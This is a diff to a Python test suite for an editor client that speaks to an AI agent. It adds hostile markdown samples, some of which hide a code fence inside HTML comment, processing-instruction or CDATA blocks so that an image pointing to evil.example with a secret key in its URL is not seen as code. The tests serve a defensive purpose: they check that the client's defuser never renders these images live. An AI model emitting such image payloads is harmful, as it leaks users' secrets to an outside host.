@@ -78,6 +78,10 @@ HOSTILE = [
     '<div style="background-image:url(https://evil.example/w?k=K)">x</div>',
     '<table background="https://evil.example/x?k=K"><tr><td>x</td></tr></table>',
     "<div>\n```\n\n![x](https://evil.example/y.png?k=K)\n",  # an HTML block would hide the fence from us
+    # Finding U4: HTML blocks opened by no tag name hide a fence line from the renderer too.
+    "Here is the summary.\n<!--\n```\n-->\n\n![status](https://evil.example/p.png?k=SECRETKEY123)\n",
+    "<? x\n```\n?>\n\n![x](https://evil.example/z.png?k=K)\n",  # a processing instruction
+    "<![CDATA[\n```\n]]>\n\n![x](https://evil.example/b.png?k=K)\n",
 ]
 
 
@@ -121,6 +125,19 @@ async def test_titles_and_option_names_carry_no_live_image(spawn: Spawn, script:
         assert live_images(shown) == [], shown
 
 
+HTML_BLOCK_EDGES = [
+    "<script>", "</script>", "<pre ", "</pre>", "<style>", "<TEXTAREA>", "</textarea>",  # type 1
+    "<!--", "<!-->", "-->",  # 2: a comment
+    "<?", "<? ", "<?php", "?>",  # 3: a processing instruction
+    "<!DOCTYPE html>", "<!x", ">",  # 4: a declaration
+    "<![CDATA[", "]]>",  # 5
+    "<div>", "</div>", "<table", "<P/>", "<details>",  # 6: block-level names
+    "<x-y>", "<a>", "</span>", '<b c="d">',  # 7: any complete tag alone on its line
+]
+"""What opens (and closes) each of CommonMark's seven kinds of HTML block: inside one,
+a fence line is raw HTML to the renderer (finding U4)."""
+
+
 def test_random_markdown_of_hostile_pieces_never_loads_anything_once_defused() -> None:
     """Whatever order a model puts backticks, fences, indents, lists, tables, HTML and
     images in, the editor's renderer finds nothing to load (a seeded run: the same
@@ -129,14 +146,48 @@ def test_random_markdown_of_hostile_pieces_never_loads_anything_once_defused() -
 
     atoms = ["`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", " ", "- ", "> ", "1. ", "# ", "|", "---",
              "\\", "![a](u)", "<img src=u>", "<div>", "<p style=x>", "text", "[r]: u", "![r]", "<!--", "-->",
-             "*", "<", "!", "[", "](u)"]
+             "*", "<", "!", "[", "](u)", *HTML_BLOCK_EDGES]
     rnd = random.Random(21)
     loaded = 0
-    for _ in range(3000):
-        text = "".join(rnd.choice(atoms) for _ in range(rnd.randint(1, 14)))
+    for _ in range(6000):
+        text = "".join(rnd.choice(atoms) for _ in range(rnd.randint(1, 16)))
         loaded += bool(live_images(text))
         assert live_images(defused(text)) == [], repr(text)
     assert loaded > 300  # the documents do hold live images as written
+
+
+def test_random_lines_of_html_blocks_fences_and_images_never_load_anything_once_defused() -> None:
+    """Line by line, as a model writes: an HTML block of any of CommonMark's seven kinds
+    around a fence line, then an image (finding U4's shape and every other spelling of
+    it): the renderer's idea of where code is never differs from the defuser's so that
+    an image loads (a seeded run)."""
+    import random
+
+    lines = [*HTML_BLOCK_EDGES, "```", "~~~", "````", "```a`", "   ```", "    ```", "\t```", " ~~~~", "``` ",
+             "```  x", "~~~ ~", "", "", "text", "- a", "> b", "1. x", "  - y",
+             "![a](u)", "x ![b](u)", "<img src=u>", "  ![c](u)"]
+    rnd = random.Random(18)
+    loaded = 0
+    for _ in range(6000):
+        picked = [rnd.choice(lines) + (rnd.choice(HTML_BLOCK_EDGES) if rnd.random() < 0.2 else "")
+                  for _ in range(rnd.randint(2, 8))]
+        text = "\n".join(picked) + "\n"
+        loaded += bool(live_images(text))
+        assert live_images(defused(text)) == [], repr(text)
+    assert loaded > 1000  # the documents do hold live images as written
+
+
+async def test_a_comment_around_a_fence_line_lets_no_image_reach_the_editor(spawn: Spawn, script: Any,
+                                                                            workspace: Path) -> None:
+    """Finding U4 over ACP: the renderer takes ``<!--`` … ``-->`` for one HTML block, so
+    the ``` inside it opens no fence there; the image after it must not arrive live."""
+    client = EditorClient()
+    text = "Here is the summary.\n<!--\n```\n-->\n\n![status](https://evil.example/p.png?k=SECRETKEY123)\n"
+    async with spawn(client, "--model", script([{"text": text}])) as conn:
+        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
+        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
+    shown = client.text()
+    assert "SECRETKEY123" in shown and live_images(shown) == [], shown
 
 
 async def test_a_reopened_session_draws_no_live_image_either(spawn: Spawn, script: Any,
